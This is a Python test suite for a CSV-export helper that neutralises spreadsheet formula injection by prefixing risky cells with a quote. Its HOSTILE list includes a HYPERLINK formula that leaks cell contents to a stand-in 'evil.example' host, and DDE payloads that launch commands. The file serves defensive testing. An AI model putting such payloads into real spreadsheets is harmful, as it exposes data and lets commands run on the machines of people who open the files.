"""Formula-safe CSV: hostile cells get a leading quote; everything round-trips; BOM and CRLF."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ycworker.common import csv_safe

HOSTILE = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1",
    "+44 7700 900123",
    "-1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    "\tplain tab first",
    "\rplain CR first",
    " =1+1",
    "   +1",
    " \t=1",
    "\u00a0=1+1",
    " \r@x",
    "\n=1+1",  # a leading newline before a formula
    "\u2003=1+1",  # an em space
    "=",
    "-",
    "@",
    "=DDE(\"cmd\";\"/C calc\";\"A1\")",
    "+\"quoted\",comma",
]
SAFE = ["plain", "O'Brien", "'already quoted", "a=b", "1+1", "x-y", "email@example.org", "", "Khan, Amira",
        "line\r\nbreak inside", "  spaced", "ünïcödé ✓"]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_gets_a_leading_quote(value):
    assert csv_safe.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_text_is_unchanged(value):
    assert csv_safe.safe_cell(value) == value


def test_typed_values_are_not_text_cells():
    assert csv_safe.safe_cell(-5) == "-5"
    assert csv_safe.safe_cell(-2.5) == "-2.5"
    assert csv_safe.safe_cell(date(2025, 7, 1)) == "2025-07-01"
    assert csv_safe.safe_cell(datetime(2025, 7, 1, 9, 30)) == "2025-07-01T09:30:00"
    assert csv_safe.safe_cell(None) == ""
    assert (csv_safe.safe_cell(True), csv_safe.safe_cell(False)) == ("Y", "N")


def test_render_is_crlf_rfc4180_and_write_has_a_bom(tmp_path):
    text = csv_safe.render(["a", "b"], [HOSTILE[:2], ["x,y", "say \"hi\""], ["multi\nline", "=x"]])
    assert text.count("\r\n") >= 4 and text.endswith("\r\n")
    rows = parse(text)
    assert rows[0] == ["a", "b"]
    assert rows[1] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    assert rows[2] == ["x,y", "say \"hi\""]
    assert rows[3] == ["multi\nline", "'=x"]
    path = tmp_path / "out.csv"
    assert csv_safe.write(path, ["a"], [["=1"], ["b"]]) == 2
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfa\r\n'=1\r\nb\r\n")


def test_every_hostile_string_round_trips_through_a_file(tmp_path):
    path = tmp_path / "hostile.csv"
    csv_safe.write(path, ["value"], [[v] for v in HOSTILE + SAFE])
    rows = parse(path.read_bytes().decode("utf-8-sig"))[1:]
    assert [r[0] for r in rows] == ["'" + v for v in HOSTILE] + SAFE


# Spaces a spreadsheet may skip before a formula; tab and CR are dangerous in themselves, so
# " \r" counts as starting with CR (hypothesis found it: str.lstrip() would strip the CR too).
# Invisible characters are skipped too (zero-width space, non-joiner, joiner, word joiner, BOM, soft
# hyphen: hypothesis found "\u00ad=", which the export rightly quotes).
_SPACES = "".join(ch for ch in map(chr, range(0x3001)) if ch.isspace() and ch not in "\t\r") + (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad")


def _dangerous(cell: str) -> bool:
    first = csv_safe.DANGEROUS_FIRST
    return cell.lstrip(_SPACES).startswith(first) or cell.startswith(first)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=6))
def test_no_cell_a_spreadsheet_would_run_and_nothing_lost(rows):
    width = max(len(r) for r in rows)
    rows = [r + [""] * (width - len(r)) for r in rows]
    header = [f"c{i}" for i in range(width)]
    parsed = parse(csv_safe.render(header, rows))
    assert parsed[0] == header
    for original, out in zip(rows, parsed[1:], strict=True):
        for value, cell in zip(original, out, strict=True):
            assert not _dangerous(cell)
            assert cell == value or cell == "'" + value  # only ever a quote added in front
            if cell != value:
                assert _dangerous(value)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(alphabet=" \u00a0\t\n\u2003", max_size=3),
       st.text(max_size=20))
def test_any_whitespace_before_a_formula_character_is_caught(first, spaces, rest):
    value = spaces + first + rest
    assert csv_safe.safe_cell(value) == "'" + value


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=12), st.none(), st.integers(-10**6, 10**6), st.dates(),
                          st.booleans(), st.floats(allow_nan=False, allow_infinity=False)),
                min_size=1, max_size=8))
def test_the_fast_path_writes_exactly_what_safe_cell_says(row):
    """render() inlines safe_cell's common cases: every kind of value must come out the same."""
    fast = parse(csv_safe.render(["h"] * len(row), [row]))[1]
    assert fast == [csv_safe.safe_cell(v) for v in row]


def test_at_least_twenty_hostile_strings_are_tested():
    assert len(HOSTILE) >= 20
    assert {v.lstrip(" \u00a0\u2003\n")[:1] for v in HOSTILE} >= {"=", "+", "-", "@", "\t", "\r"}
